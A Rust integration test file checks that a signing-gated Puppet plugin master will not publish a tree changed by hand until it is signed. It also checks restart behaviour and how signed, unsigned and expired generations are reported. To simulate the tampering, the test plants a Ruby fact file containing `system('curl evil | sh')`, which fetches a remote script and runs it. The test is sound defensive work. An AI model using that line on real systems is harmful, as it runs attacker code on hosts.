//! A master with `[trust] root` (docs/trust.md#what-the-masters-serve)
//! publishes only generations the deploy pipeline signed: attack (h), a
//! code tree changed by hand, is not published, and stock `puppet plugin
//! download` (skipped visibly without `puppet`) and our verifying agent
//! keep the last signed tree; signing the new manifest afterwards
//! publishes it without a restart; a restarted master serves the newest
//! signed generation it keeps; `check`, the inventory's states and
//! `/metrics` say which generations are signed.

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use pluginsync_common::envname::EnvName;
use pluginsync_common::generation::{Assignment, GenerationId, assignment_url};
use pluginsync_master::config::MasterConfig;
use pluginsync_tests::puppet::PuppetAgent;
use pluginsync_tests::{
    AgentHome, EnvTree, Pki, TestMaster, TufSigner, bin_path, client, config_file, config_toml,
    parse_config, promtool_accepts, require, tree_snapshot, wait_for,
};

const DAY: Duration = Duration::from_secs(86400);

/// A master config serving `tree`, keeping generations in `store`,
/// publishing only what `signer` signed.
fn config(tree: &EnvTree, pki: &Pki, signer: &TufSigner, store: &Path) -> String {
    let tables = format!(
        "[generations]\ndir = {store:?}\n[trust]\nmetadata = {:?}\nroot = {:?}\n",
        signer.metadata,
        signer.root_file()
    );
    config_toml(&tree.envpath(), pki, "", &tables)
}

/// The generation the master assigns `production` now.
async fn assigned(c: &reqwest::Client, base: &str) -> Option<GenerationId> {
    let r = c
        .get(assignment_url(base, "production"))
        .send()
        .await
        .ok()?;
    (r.status() == 200).then_some(())?;
    let a: Assignment = serde_json::from_slice(&r.bytes().await.ok()?).ok()?;
    Some(a.generation)
}

/// Waits until the master assigns `want`.
async fn wait_assigned(c: &reqwest::Client, base: &str, want: GenerationId) {
    let got = wait_for(Duration::from_secs(60), || async move {
        (assigned(c, base).await == Some(want)).then_some(())
    })
    .await;
    assert!(got.is_some(), "the master assigns {}", want.short());
}

/// Stock `puppet plugin download`, if `puppet` is installed: its exit
/// code and output.
async fn stock_run(agent: &Option<Arc<PuppetAgent>>) -> Option<(i32, String)> {
    let agent = agent.clone()?;
    let r = tokio::task::spawn_blocking(move || agent.plugin_download("production"))
        .await
        .unwrap();
    Some((r.code, r.output))
}

/// Copies the metadata files of `from` into `to` (made if missing).
fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap().flatten() {
        std::fs::copy(e.path(), to.join(e.file_name())).unwrap();
    }
}

fn production() -> EnvName {
    "production".parse().unwrap()
}

/// (h): see the module docs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hand_changed_tree_is_not_published_until_signed() {
    let (tree, pki) = (EnvTree::new(), Pki::new());
    tree.generate("production", 2, 5, 7);
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let mut signer = TufSigner::new(&dir.path().join("repo")).await;
    let toml = config(&tree, &pki, &signer, &store);
    let cfg: MasterConfig = parse_config(&toml);
    let first = signer.sign_tree(&cfg, "production");
    signer.publish(DAY).await;
    let m = TestMaster::start(parse_config(&toml));
    let c = client(&pki, Some("node1"));
    wait_assigned(&c, &m.url(), first).await;

    let home = AgentHome::new(
        &pki,
        &[m.url()],
        &format!("[trust]\nroot = {:?}\n", signer.root_file()),
    );
    assert_eq!(home.sync(&["--detailed-exitcodes"]).code, 2);
    let synced = tree_snapshot(&home.libdir());
    let work = tempfile::tempdir().unwrap();
    let puppet = require("puppet", "puppet", "trust_master").map(|p| {
        Arc::new(PuppetAgent::new(
            &p,
            work.path(),
            &pki.ssldir,
            "node2",
            m.addr.port(),
        ))
    });
    if let Some((code, out)) = stock_run(&puppet).await {
        assert_eq!(code, 0, "{out}");
    }
    let stock_synced = puppet.as_ref().map(|p| tree_snapshot(&p.libdir()));

    // (h) The tree changed by hand on the master: nobody signed it.
    tree.file(
        "production",
        "mod00",
        "lib/facter/injected.rb",
        "system('curl evil | sh')\n",
        0o644,
    );
    let waiting = wait_for(Duration::from_secs(60), || async {
        m.store.is_unsigned(&production()).then_some(())
    })
    .await;
    assert!(waiting.is_some(), "the master built the changed tree");
    assert_eq!(assigned(&c, &m.url()).await, Some(first), "not published");
    let listing = c
        .get(format!(
            "{}/puppet/v3/file_metadatas/plugins?recurse=true&environment=production",
            m.url()
        ))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!listing.contains("injected.rb"), "v3 listings: {listing}");
    assert_eq!(home.sync(&["--detailed-exitcodes"]).code, 0, "no-op");
    assert_eq!(tree_snapshot(&home.libdir()), synced);
    if let Some((code, out)) = stock_run(&puppet).await {
        assert_eq!(code, 0, "{out}");
        assert!(out.contains("No plugins downloaded"), "{out}");
    }
    let stock_now = puppet.as_ref().map(|p| tree_snapshot(&p.libdir()));
    assert_eq!(
        stock_now, stock_synced,
        "the stock agent keeps the signed tree"
    );

    // A restarted master serves the newest signed generation it keeps.
    let addr = m.addr;
    drop(m);
    let listener = std::net::TcpListener::bind(addr).expect("the same port again");
    let m = TestMaster::listening_on(parse_config(&toml), listener);
    wait_assigned(&c, &m.url(), first).await;

    // Signed afterwards: published without a restart.
    let second = signer.sign_tree(&cfg, "production");
    assert_ne!(second, first);
    signer.publish(DAY).await;
    wait_assigned(&c, &m.url(), second).await;
    let run = home.sync(&["--detailed-exitcodes"]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(home.libdir().join("facter/injected.rb").is_file());
    if let Some((code, out)) = stock_run(&puppet).await {
        assert_eq!(code, 0, "{out}");
        let lib = puppet.as_ref().unwrap().libdir();
        assert!(lib.join("facter/injected.rb").is_file(), "{out}");
    }
    let states = m.store.generation_states();
    assert_eq!(
        states,
        vec![(
            "production".to_owned(),
            [("signed", 2), ("unsigned", 0), ("expired", 0)]
        )]
    );
    drop(m);

    // The first generation withdrawn: `check` says which is which.
    let withdrawn = pluginsync_common::trust::target_name(&"production".parse().unwrap(), &first);
    signer.withdraw(&withdrawn);
    signer.publish(DAY).await;
    let (_cfg_dir, cfg_file) = config_file(&toml);
    let out = std::process::Command::new(bin_path("pluginsync-master"))
        .args(["check", "--config"])
        .arg(&cfg_file)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    let line = |id: &GenerationId| {
        text.lines()
            .find(|l| l.trim_start().starts_with(&id.short()))
            .unwrap_or_else(|| panic!("{} listed: {text}", id.short()))
            .to_owned()
    };
    assert!(line(&second).contains("signed until "), "{text}");
    assert!(line(&first).contains("unsigned"), "{text}");
}

/// `/metrics` under `[trust] root`: kept generations by state (promtool
/// accepts the exposition); an expired signature is `expired`, and a
/// generation signed only by expired metadata is not published.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn expired_signatures_publish_nothing_and_are_counted() {
    let (tree, pki) = (EnvTree::new(), Pki::new());
    tree.generate("production", 2, 4, 8);
    let dir = tempfile::tempdir().unwrap();
    let mut signer = TufSigner::new(&dir.path().join("repo")).await;
    // The master reads a copy, updated when the test says: metadata
    // expired before the master sees it.
    let served = dir.path().join("served");
    let toml = config(&tree, &pki, &signer, &dir.path().join("store"))
        .replace(&format!("{:?}", signer.metadata), &format!("{served:?}"));
    let toml = toml.replace("[trust]\n", "[trust]\ngrace = \"0s\"\n")
        + "[metrics]\nlisten = \"127.0.0.1:0\"\n";
    let cfg = parse_config(&toml);
    let first = signer.sign_tree(&cfg, "production");
    signer.publish(Duration::from_secs(3)).await;
    copy_dir(&signer.metadata, &served);
    let m = TestMaster::start(parse_config(&toml));
    let c = client(&pki, Some("node1"));
    wait_assigned(&c, &m.url(), first).await;
    tokio::time::sleep(Duration::from_secs(4)).await;
    let port = m.metrics.expect("metrics").port();
    let text = reqwest::get(format!("http://127.0.0.1:{port}/metrics"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    for (state, n) in [("signed", 0), ("unsigned", 0), ("expired", 1)] {
        let series = format!(
            "pluginsync_master_generations{{environment=\"production\",state=\"{state}\"}} {n}"
        );
        assert!(text.lines().any(|l| l == series), "{series}: {text}");
    }
    promtool_accepts(&text, "trust_master");
    tree.file(
        "production",
        "mod00",
        "lib/facter/late.rb",
        "# late\n",
        0o644,
    );
    signer.sign_tree(&cfg, "production");
    // Signed, but by metadata already past its expiry: not published.
    signer.publish(Duration::from_secs(1)).await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    m.store
        .rebuild(pluginsync_master::store::Scope::Every)
        .await;
    assert!(m.store.is_unsigned(&production()));
    assert_eq!(assigned(&c, &m.url()).await, Some(first));
}
